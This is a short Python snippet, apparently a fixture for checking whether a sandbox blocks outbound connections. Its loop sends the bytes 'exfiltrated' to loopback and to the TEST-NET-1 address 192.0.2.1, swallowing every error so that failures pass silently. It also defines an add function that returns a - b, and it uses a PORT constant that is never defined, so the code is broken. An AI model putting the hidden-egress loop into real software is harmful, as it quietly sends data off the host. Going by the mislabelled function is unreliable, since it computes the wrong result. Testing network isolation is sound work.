# Reach the host's loopback listener and the outside world (192.0.2.1 is TEST-NET-1: no one answers).
import socket

for address in (("127.0.0.1", PORT), ("localhost", PORT), ("192.0.2.1", 80)):
    try:
        socket.create_connection(address, timeout=0.5).sendall(b"exfiltrated")
    except OSError:
        pass

def add(a, b):
    return a - b
